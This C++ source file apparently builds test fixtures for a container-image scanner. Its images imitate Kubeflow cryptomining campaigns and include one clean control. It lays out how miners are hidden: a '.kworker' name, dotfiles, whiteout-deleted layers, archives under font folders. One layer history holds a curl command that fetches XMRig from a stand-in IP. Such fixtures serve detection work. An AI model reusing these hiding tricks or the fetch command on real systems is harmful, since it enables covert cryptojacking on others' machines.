// The ready-made images, each shaped after what the Kubeflow campaigns actually deployed.
#include "image_builder.hpp"

namespace mg::testing {
namespace {

const std::vector<std::string> kPathEnv = {
    "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"};

LayerSpec layer(std::vector<FileSpec> files, Compression compression) {
  return LayerSpec{std::move(files), compression, {}};
}

LayerSpec base_layer(const SampleOptions& options) {
  return layer(real_system_files(options.base_files, options.base_bytes), options.compression);
}

}  // namespace

// 2020: an attacker-built image (ddsfdfsaadfs/dfsdf:99) whose only job is to run XMRig. The miner
// hides under a kernel-thread-like name, its config sits in root's home, a launcher starts it.
ImageSpec miner_image(const SampleOptions& options) {
  const std::string wallet = test_wallet();
  ImageSpec spec;
  spec.repo_tag = "ddsfdfsaadfs/dfsdf:99";
  spec.layers.push_back(base_layer(options));
  spec.layers.push_back(layer({dir("usr/local/bin"), file("usr/local/bin/.kworker", test_miner_binary(), 0755),
                               dir("root", 0700), file("root/.xmrig.json", xmrig_config_json(wallet), 0600)},
                              options.compression));
  spec.layers.push_back(layer({file("entrypoint.sh", launcher_script(wallet), 0755)}, options.compression));
  spec.entrypoint = {"/entrypoint.sh"};
  spec.env = kPathEnv;
  spec.history = {
      "/bin/sh -c #(nop) ADD file:4d3b5d4ecb1a6e0f2d4c7e5a9b8f1e2d3c4b5a6978877665544332211aabbccd in / ",
      "/bin/sh -c curl -sL -o /usr/local/bin/.kworker http://198.51.100.7/xmrig && chmod +x "
      "/usr/local/bin/.kworker && cp config.json /root/.xmrig.json",
      "/bin/sh -c #(nop) COPY file:entrypoint.sh in /entrypoint.sh ",
      "/bin/sh -c #(nop)  ENTRYPOINT [\"/entrypoint.sh\"]",
  };
  return spec;
}

// 2021: a genuine-looking TensorFlow image; nothing in its layers is a miner, but the command
// the pod runs downloads XMRig and points it at a pool.
ImageSpec tf_like_image(const SampleOptions& options) {
  const std::string wallet = test_wallet();
  ImageSpec spec;
  spec.repo_tag = "example.test/tensorflow/tensorflow:2.4.1-gpu-jupyter";
  spec.layers.push_back(base_layer(options));
  const std::string pkg = "usr/local/lib/python3.8/dist-packages/tensorflow/";
  spec.layers.push_back(layer(
      {dir("usr/local/lib/python3.8/dist-packages"), dir(pkg),
       file(pkg + "__init__.py", "\"\"\"Top-level module of TensorFlow (test stand-in).\"\"\"\n"
                                 "__version__ = \"2.4.1\"\n"),
       file(pkg + "version.py", "VERSION = \"2.4.1\"\nGIT_VERSION = \"v2.4.0-49-g85c8b2a817f\"\n"),
       dir("tf"), file("tf/README.md", "Notebooks live here.\n")},
      options.compression));
  spec.env = {kPathEnv[0], "LANG=C.UTF-8", "NVIDIA_VISIBLE_DEVICES=all",
              "NVIDIA_DRIVER_CAPABILITIES=compute,utility", "CUDA_VERSION=11.0.3"};
  spec.labels = {{"maintainer", "TensorFlow test stand-in"}};
  spec.working_dir = "/tf";
  spec.cmd = {"sh", "-c", dropper_command(wallet)};
  spec.history = {
      "/bin/sh -c #(nop) ADD file:9a1c1e2b3d4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b in / ",
      "/bin/sh -c python3 -m pip --no-cache-dir install tensorflow-gpu==2.4.1 jupyter matplotlib",
      "/bin/sh -c #(nop) WORKDIR /tf",
  };
  return spec;
}

// A miner that an image author tried to hide: added in one layer and whiteout-deleted in the next
// (it is still in the image's bytes), and shipped again inside a tar.gz and a zip.
ImageSpec hidden_miner_image(const SampleOptions& options) {
  const std::string wallet = test_wallet();
  const std::string miner = test_miner_binary();
  const std::string config = xmrig_config_json(wallet);
  ImageSpec spec;
  spec.repo_tag = "example.test/ml/notebook:3.1";
  spec.layers.push_back(base_layer(options));
  spec.layers.push_back(layer({dir("opt"), dir("opt/.cache"), file("opt/.cache/kworker", miner, 0755),
                               file("opt/.cache/config.json", config)},
                              options.compression));
  const std::string nested_tgz =
      gzip(make_tar({file("xmrig-6.21.0/xmrig", miner, 0755), file("xmrig-6.21.0/config.json", config),
                     file("xmrig-6.21.0/start.sh", launcher_script(wallet), 0755)}));
  const std::string nested_zip = make_zip({file("xmrig", miner, 0755), file("config.json", config)});
  spec.layers.push_back(layer({whiteout("opt/.cache/kworker"), whiteout("opt/.cache/config.json"),
                               dir("usr/share/fonts"), file("usr/share/fonts/.cache.tar.gz", nested_tgz),
                               dir("var/tmp"), file("var/tmp/.tools.zip", nested_zip)},
                              options.compression));
  spec.layers.push_back(layer({dir("app"), file("app/app.py", "print('training step')\n")},
                              options.compression));
  spec.cmd = {"python3", "/app/app.py"};
  spec.env = kPathEnv;
  spec.working_dir = "/app";
  spec.history = {
      "/bin/sh -c #(nop) ADD file:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0 in / ",
      "/bin/sh -c #(nop) COPY dir:cache in /opt/.cache ",
      "/bin/sh -c rm -f /opt/.cache/kworker /opt/.cache/config.json",
      "/bin/sh -c #(nop) COPY dir:app in /app ",
      "/bin/sh -c #(nop)  CMD [\"python3\" \"/app/app.py\"]",
  };
  return spec;
}

// Real files of this machine only, with the entrypoint of an ordinary base image.
ImageSpec clean_image(const SampleOptions& options) {
  ImageSpec spec;
  spec.repo_tag = "example.test/clean:1";
  std::vector<FileSpec> files = real_system_files(options.base_files * 2, options.base_bytes * 2);
  const std::size_t half = files.size() / 2;
  spec.layers.push_back(layer({files.begin(), files.begin() + static_cast<std::ptrdiff_t>(half)},
                              options.compression));
  spec.layers.push_back(layer({files.begin() + static_cast<std::ptrdiff_t>(half), files.end()},
                              options.compression));
  spec.cmd = {"/bin/sh"};
  spec.env = kPathEnv;
  spec.history = {
      "/bin/sh -c #(nop) ADD file:1f2e3d4c5b6a79880897a6b5c4d3e2f11f2e3d4c5b6a79880897a6b5c4d3e2f1 in / ",
      "/bin/sh -c apt-get update && apt-get install -y --no-install-recommends ca-certificates",
      "/bin/sh -c #(nop)  CMD [\"/bin/sh\"]",
  };
  return spec;
}

ImageSpec miner_image(Compression compression) { return miner_image(SampleOptions{compression}); }
ImageSpec tf_like_image(Compression compression) { return tf_like_image(SampleOptions{compression}); }
ImageSpec hidden_miner_image(Compression compression) {
  return hidden_miner_image(SampleOptions{compression});
}
ImageSpec clean_image(Compression compression) { return clean_image(SampleOptions{compression}); }

}  // namespace mg::testing
